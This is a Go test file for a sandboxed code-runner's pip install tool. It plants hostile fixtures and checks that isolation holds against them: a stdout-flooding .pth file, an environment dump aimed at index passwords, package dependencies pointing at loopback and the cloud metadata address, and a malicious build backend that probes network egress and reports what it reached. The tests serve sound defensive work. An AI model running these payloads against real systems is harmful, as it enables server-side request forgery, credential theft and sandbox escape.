package app

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/quro-dev/quro/internal/pip"
	"github.com/quro-dev/quro/internal/pip/piptest"
	"github.com/quro-dev/quro/internal/runcode"
	"github.com/quro-dev/quro/internal/sandbox"
	"github.com/quro-dev/quro/internal/sandbox/sandboxtest"
)

// TestPipInstallOutputBoundedAgainstPth: install_packages' pip runs in the
// session's box with the session's user site, so a .pth the session wrote
// there runs inside pip and writes what it likes to pip's stdout (here
// 256 MiB, twice the allocation the check allows: an unbounded capture
// allocates at least the stream; 512 MiB cost twice the CPU for the same
// proof). Both of pip's passes keep a bounded capture: the call returns,
// its output says it was cut, and the server did not allocate the stream.
// Not parallel: it measures what the whole test process allocates, which
// other tests running beside it add to (181 MiB once, with more of the
// package's tests parallel).
func TestPipInstallOutputBoundedAgainstPth(t *testing.T) {
	ix := newTestIndex(t, pureWheel(t, "quropth", "1.0", "v"))
	a := pipApp(t, ix)
	s := sessionAs(t, a, pipAlice, "pth", "", nil)
	r := runIn(t, a, pipAlice, RunCodeInput{Session: s.ID, Code: `import os, site
d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "zz-flood.pth"), "w") as f:
    f.write("import os,sys; [os.write(1, b'A'*(1<<20)) for _ in range(256)] if 'install' in sys.argv else None\n")
print(d)`})
	if r.ExitCode != 0 || !strings.Contains(r.Stdout, "/.local/lib/python3.14/site-packages") {
		t.Fatalf("planting the .pth: %+v", r)
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	res, err := installPip(t, a, pipAlice, s.ID, "quropth")
	runtime.ReadMemStats(&after)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Output, "cut from the middle") || len(res.Output) > 4*aptOutputMax {
		t.Fatalf("output not cut (%d bytes): %.300q", len(res.Output), res.Output)
	}
	// 256 MiB went through pip's stdout; a bounded capture allocates a
	// few of its 16 KiB buffers, an unbounded one at least the stream.
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 128<<20 {
		t.Fatalf("the server allocated %d MiB for pip's output", grew>>20)
	}
}

// TestPipIndexCredentialsStayWithTheServer: the server's index URLs may
// carry a user and password (an index behind Basic auth). A session with
// network full gets the URLs without them (its code reads its own
// environment), while the server's fetch for install_packages still
// authenticates; pip's output shown to the caller does not carry the
// password either.
func TestPipIndexCredentialsStayWithTheServer(t *testing.T) {
	t.Parallel()
	const secret = "s3cret-Idx-Pw"
	ix := newTestIndex(t, pureWheel(t, "quroauth", "1.0", "v"))
	var authed, refused atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if u, p, ok := r.BasicAuth(); !ok || u != "quro" || p != secret {
			refused.Add(1)
			w.Header().Set("WWW-Authenticate", `Basic realm="index"`)
			http.Error(w, "auth", http.StatusUnauthorized)
			return
		}
		authed.Add(1)
		ix.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	host := strings.TrimPrefix(srv.URL, "http://")
	a := pipAppWith(t, PipOptions{
		IndexURL:       "http://quro:" + secret + "@" + host + "/simple/",
		ExtraIndexURLs: []string{"http://extra:" + secret + "@" + host + "/extra/"},
	})
	s := sessionAs(t, a, pipAlice, "cred", "host", nil)
	r := runIn(t, a, pipAlice, RunCodeInput{Session: s.ID, Lang: "bash", Code: `echo "index=$PIP_INDEX_URL extra=$PIP_EXTRA_INDEX_URL"; cat /proc/self/environ | tr '\0' '\n'`})
	if strings.Contains(r.Stdout+r.Stderr, secret) {
		t.Fatalf("the session sees the index password:\n%s", r.Stdout)
	}
	if want := "index=http://" + host + "/simple/ extra=http://" + host + "/extra/\n"; !strings.HasPrefix(r.Stdout, want) {
		t.Fatalf("the session's index URLs: %q, want %q", strings.SplitN(r.Stdout, "\n", 2)[0], want)
	}
	res, err := installPip(t, a, pipAlice, s.ID, "quroauth")
	if err != nil {
		t.Fatalf("install_packages through the authenticated index: %v", err)
	}
	if res.FromCache || len(res.Wheels) != 1 || authed.Load() == 0 {
		t.Fatalf("the server's fetch: %+v (authenticated requests %d, refused %d)", res, authed.Load(), refused.Load())
	}
	if strings.Contains(res.Output, secret) {
		t.Fatalf("pip's output carries the password:\n%s", res.Output)
	}
}

// pipOfFetch finds the pid of the fetch box's pip that asks index, the
// test's own (the box names its scratch directory by the box's path,
// not by the data directory's).
func pipOfFetch(t *testing.T, index string) int {
	t.Helper()
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		args := strings.Split(string(b), "\x00")
		if i := slices.Index(args, "--index-url"); slices.Contains(args, "download") && i >= 0 && i+1 < len(args) && args[i+1] == index && !strings.Contains(args[0], "bwrap") {
			return pid
		}
	}
	t.Fatal("no pip download process from this test's index")
	return 0
}

// TestPipFetchInTenantCgroupOneAtATime: the server's fetch box for a
// tenant runs in the tenant's cgroup (its memory, CPU and task ceilings),
// and a tenant's fetches run one at a time: while alice's first fetch is
// held, her second call waits for it (until its caller gives up) and
// opens no connection.
//
// The first fetch is held by stopping its pip (SIGSTOP) once its first
// request reached the index, not by the index holding its answer: pip
// gives up on a read after its --timeout (15 s), and with no retries it
// reads a page it timed out on as a package with no versions, so a hold
// longer than that (the second call's box and pip start at a load of 50
// or more) failed the first fetch ("from versions: none"). The index
// answers once pip is stopped; the answer waits in pip's socket, and pip
// reads it when it is continued.
func TestPipFetchInTenantCgroupOneAtATime(t *testing.T) {
	t.Parallel()
	ix := newTestIndex(t, pureWheel(t, "quroslow", "1.0", "a"), pureWheel(t, "quroother", "1.0", "b"))
	arrived, stopped := make(chan string, 16), make(chan struct{})
	var mu sync.Mutex
	var seen []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.Path)
		mu.Unlock()
		if strings.HasPrefix(r.URL.Path, "/simple/") {
			select {
			case arrived <- r.URL.Path:
			default:
			}
			<-stopped // the first fetch's pip is stopped, or the test is over
		}
		ix.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	var stopOnce sync.Once
	letIndexAnswer := func() { stopOnce.Do(func() { close(stopped) }) }
	t.Cleanup(letIndexAnswer)
	a := pipAppWith(t, PipOptions{IndexURL: srv.URL + "/simple/"})
	cgroups := false
	for _, f := range a.Sandbox.Layers() {
		cgroups = cgroups || (f.Name == sandbox.LayerCgroups && f.Used)
	}
	if !cgroups {
		t.Skip("no cgroups layer")
	}
	s1 := sessionAs(t, a, pipAlice, "f1", "", nil)
	s2 := sessionAs(t, a, pipAlice, "f2", "", nil)
	first := make(chan error, 1)
	go func() {
		_, err := installPip(t, a, pipAlice, s1.ID, "quroslow")
		first <- err
	}()
	if p := <-arrived; p != "/simple/quroslow/" {
		t.Fatalf("first request %q", p)
	}
	pid := pipOfFetch(t, srv.URL+"/simple/")
	cg, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", pid))
	if err != nil {
		t.Fatal(err)
	}
	if name := sandbox.TenantCgroupName(a.DataDir, "alice"); !strings.Contains(string(cg), "/"+name+"/") {
		t.Fatalf("the fetch's pip (pid %d) is not in alice's cgroup %s:\n%s", pid, name, cg)
	}
	// Hold the first fetch: its pip stopped, the index's answer waiting
	// in its socket.
	if err := syscall.Kill(pid, syscall.SIGSTOP); err != nil {
		t.Fatalf("stopping the first fetch's pip (pid %d): %v", pid, err)
	}
	var contOnce sync.Once
	letFirstGo := func() { contOnce.Do(func() { _ = syscall.Kill(pid, syscall.SIGCONT) }) }
	t.Cleanup(letFirstGo)
	letIndexAnswer()

	// The second call says it waits for the first (the event waited
	// on), then its caller gives up: it ends with an error, having
	// reached nothing.
	waiting := make(chan struct{})
	var once sync.Once
	ctx, cancel := context.WithCancel(runcode.WithOutput(context.Background(), func(_ string, p []byte) {
		if bytes.Contains(p, []byte(pip.FetchWaitLine)) {
			once.Do(func() { close(waiting) })
		}
	}))
	defer cancel()
	go func() {
		select {
		case <-waiting:
		case <-ctx.Done(): // the call ended first: said below
		case <-time.After(slowRunCall): // a guard: the line comes as soon as the call reaches the lock
		}
		cancel()
	}()
	b, _ := json.Marshal(InstallPackagesInput{Session: s2.ID, Manager: "pip", Packages: []string{"quroother"}})
	reply, err := a.Controller.Call(ctx, pipAlice, "install_packages", b)
	select {
	case <-waiting:
	default:
		t.Errorf("the second call did not say it waits for the first: %v", err)
	}
	if err == nil {
		t.Fatalf("the second fetch ran beside the first: %+v", reply.Output)
	}
	t.Logf("the second call: %v", err)
	mu.Lock()
	got := slices.Clone(seen)
	mu.Unlock()
	for _, p := range got {
		if strings.Contains(p, "quroother") {
			t.Fatalf("the second fetch reached the index while the first held it: %q (%v)", got, err)
		}
	}
	letFirstGo()
	if err := <-first; err != nil {
		t.Fatalf("the first fetch: %v", err)
	}
	if _, err := installPip(t, a, pipAlice, s2.ID, "quroother"); err != nil {
		t.Fatalf("after the first: %v", err)
	}
}

// TestPipFetchRefusesDirectURLsToTheHostsNetworks: a package on the
// index (which itself is on loopback, as the operator configured it)
// declares a direct-URL dependency on the server's loopback (another
// port, a listener of the test's, by http and by https), on the cloud
// metadata address and on a name. The server's fetch goes through its
// egress proxy, which connects to the configured index alone:
// install_packages fails naming the destination and its class (or that
// it is not a configured index), and the listener saw no connection. A
// dependency on a git repository there (git, which pip runs, ignores the
// proxy) fails too, the listener still untouched: loopback in the fetch
// box is the box's own.
//
// Each refusal ends pip's run (pip gives up at the first dependency it
// cannot fetch), so each destination costs a fetch box and a pip
// (some 2 CPU-s). The destinations here are one of each way through
// pip and the proxy: plain http (loopback, link-local), https's CONNECT
// (loopback, a name: the fetch's proxy takes the configured index
// alone), and git past the proxy. The proxy's classes of the other
// addresses a package may name (a private or a public literal, refused
// as such by the fetch's OnlyTrusted proxy over the same plain-http
// path as the metadata address) are internal/egress's TestProxyOnlyTrusted;
// each refusal here names what pip read from the index, so the index was
// reached, and a package from the loopback index through this fetch is
// TestPipSessionIndexNotFetchedByServer's first install.
func TestPipFetchRefusesDirectURLsToTheHostsNetworks(t *testing.T) {
	t.Parallel()
	ln := sandboxtest.ListenHost(t, "")
	target := ln.Addr
	evil := func(project, url string) *testWheel {
		return piptest.BuildWheelMeta(t, project, "1.0", "py3-none-any", "Requires-Dist: evil @ "+url+"\n",
			map[string][]byte{project + "/__init__.py": []byte("")})
	}
	ix := newTestIndex(t,
		evil("quroloop", "http://"+target+"/evil-1.0-py3-none-any.whl"),
		evil("quroloops", "https://"+target+"/evil-1.0-py3-none-any.whl"),
		evil("quromd", "http://169.254.169.254/latest/meta-data/evil-1.0-py3-none-any.whl"),
		evil("quroname", "https://files.example.org/evil-1.0-py3-none-any.whl"),
		evil("qurogit", "git+http://"+target+"/evil.git"))
	a := pipApp(t, ix)
	s := sessionAs(t, a, pipAlice, "ssrf", "", nil)
	for pkg, want := range map[string]string{
		"quroloop":  target + " (loopback address)",
		"quroloops": target + " (loopback address)",
		"quromd":    "169.254.169.254:80 (link-local address)",
		"quroname":  "files.example.org:443 (not a configured index)",
	} {
		_, err := installPip(t, a, pipAlice, s.ID, pkg)
		if err == nil || !strings.Contains(err.Error(), "refused to connect to "+want) {
			t.Errorf("%s: %v, want a refusal of %s", pkg, err, want)
			continue
		}
		t.Logf("%s: %v", pkg, err)
	}
	// A git repository: pip hands it to git, which ignores pip's proxy;
	// the fetch box lets no TCP connect reach any port but the proxy's.
	// Its error quotes git's command line, whose paths are in pip's
	// temporary directory: the tenant reads them at their box path.
	if _, err := installPip(t, a, pipAlice, s.ID, "qurogit"); err == nil {
		t.Error("qurogit: installed, want a failure")
	} else if strings.Contains(err.Error(), a.DataDir) || !strings.Contains(err.Error(), sandbox.BoxTmp+"/") {
		t.Errorf("qurogit: the error shows the data directory %s, or not pip's temporary directory at %s: %v", a.DataDir, sandbox.BoxTmp, err)
	} else {
		t.Logf("qurogit: %v", err)
	}
	if n := ln.Accepted.Load(); n != 0 {
		t.Fatalf("the fetch connected %d times to the loopback listener a package named", n)
	}
}

// sdist is a source archive (name-version.tar.gz) of files under
// name-version/.
func sdist(t *testing.T, name, version string, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for path, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: name + "-" + version + "/" + path, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(tw, body); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestPipFetchPackageCodeReachesNothing: a package on the index names a
// source archive (on the index itself), whose in-tree build backend pip
// runs in the fetch box for its metadata despite --only-binary. That
// package code sends UDP datagrams (QUIC-sized) to every address of the
// host, where a listener waits, asks a public resolver over UDP for a
// name, and connects by TCP to the host's addresses past pip's proxy;
// then it reports what happened to the index through the proxy (the
// one way out) and fails. Its report arrives (the event the test waits
// for): every datagram off the box's loopback was dropped at sendto, the
// name did not resolve, no TCP connection reached the host; the host's
// UDP and TCP listeners heard nothing, and the install's error names what
// the fetch box's egress refused.
func TestPipFetchPackageCodeReachesNothing(t *testing.T) {
	t.Parallel()
	hu, err := net.ListenPacket("udp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	defer hu.Close()
	var heard atomic.Int64
	go func() {
		b := make([]byte, 2048)
		for {
			if _, _, err := hu.ReadFrom(b); err != nil {
				return
			}
			heard.Add(1)
		}
	}()
	uport := hu.LocalAddr().(*net.UDPAddr).Port
	ht := newHostListener(t, "tcp", ":0")

	ix := newTestIndex(t)
	ixHost := strings.TrimPrefix(ix.Server.URL, "http://")
	reports := make(chan string, 1)
	ix.OnRequest(func(r *http.Request) {
		if r.URL.Path == "/files/report" {
			select {
			case reports <- r.URL.Query().Get("r"):
			default:
			}
		}
	})
	var udp, tcp []string
	for _, ad := range append(hostAddrs(t), netip.MustParseAddr("169.254.169.254")) {
		fam := "socket.AF_INET"
		if ad.Is6() && !ad.Is4In6() {
			fam = "socket.AF_INET6"
		}
		udp = append(udp, fmt.Sprintf(`(%s, (%q, %d))`, fam, ad.String(), uport))
		tcp = append(tcp, fmt.Sprintf(`(%s, (%q, %d))`, fam, ad.String(), ht.port))
	}
	backend := `import socket, urllib.parse, urllib.request
res = []
for fam, addr in [` + strings.Join(udp, ", ") + `, (socket.AF_INET, ("8.8.8.8", 443))]:
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(b"QUIC" * 300, addr); res.append("udp-sent %s" % (addr,))
    except OSError as e:
        res.append("udp-dropped %s %s" % (addr, e.errno))
try:
    socket.getaddrinfo("github.com", 443); res.append("dns-resolved github.com")
except OSError as e:
    res.append("dns-failed github.com %s" % e)
for fam, addr in [` + strings.Join(tcp, ", ") + `]:
    c = socket.socket(fam, socket.SOCK_STREAM)
    c.settimeout(20)
    try:
        c.connect(addr); c.sendall(b"GET / HTTP/1.0\r\n\r\n"); d = c.recv(200)
        res.append(("tcp-REACHED %s %r" if b"hello-from" in d else "tcp-closed %s %r") % (addr, d))
    except OSError as e:
        res.append("tcp-refused %s %s" % (addr, e))
try:
    urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://127.0.0.1:` + strconv.Itoa(pip.ProxyPort) + `"})).open(
        "http://` + ixHost + `/files/report?" + urllib.parse.urlencode({"r": "\n".join(res)}), timeout=30)
except Exception:
    pass
raise SystemExit("quro-evil backend done")
`
	ix.AddFile("quroevil-1.0.tar.gz", sdist(t, "quroevil", "1.0", map[string]string{
		"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"evilbackend\"\nbackend-path = [\".\"]\n",
		"evilbackend.py": backend,
		"PKG-INFO":       "Metadata-Version: 2.1\nName: quroevil\nVersion: 1.0\n",
	}))
	ix.Add(piptest.BuildWheelMeta(t, "qurobuilds", "1.0", "py3-none-any", "Requires-Dist: quroevil @ http://"+ixHost+"/files/quroevil-1.0.tar.gz\n",
		map[string][]byte{"qurobuilds/__init__.py": []byte("")}))
	a := pipApp(t, ix)
	s := sessionAs(t, a, pipAlice, "udp", "", nil)
	_, ierr := installPip(t, a, pipAlice, s.ID, "qurobuilds")
	t.Logf("install: %v", ierr)
	var report string
	select {
	case report = <-reports:
	default:
		t.Fatalf("the build backend's report never reached the index (did pip run it?): %v", ierr)
	}
	t.Logf("the backend's report:\n%s", report)
	if ierr == nil {
		t.Error("qurobuilds installed, want a failure")
	}
	for _, l := range strings.Split(report, "\n") {
		switch {
		case strings.HasPrefix(l, "udp-sent"), strings.HasPrefix(l, "dns-resolved"), strings.HasPrefix(l, "tcp-REACHED"):
			// The box's own loopback is not out.
			if !strings.Contains(l, "'127.0.0.1'") && !strings.Contains(l, "'::1'") {
				t.Errorf("package code in the fetch box got out: %s", l)
			}
		}
	}
	if !strings.Contains(report, "dns-failed github.com") {
		t.Errorf("github.com resolved in the fetch box:\n%s", report)
	}
	if n, m := heard.Load(), ht.n.Load(); n != 0 || m != 0 {
		t.Errorf("the host's UDP listener heard %d datagrams and its TCP listener %d connections from the fetch box", n, m)
	}
	if ierr != nil && !strings.Contains(ierr.Error(), "refused to connect to") {
		t.Errorf("the error does not name what the fetch's egress refused: %v", ierr)
	}
}
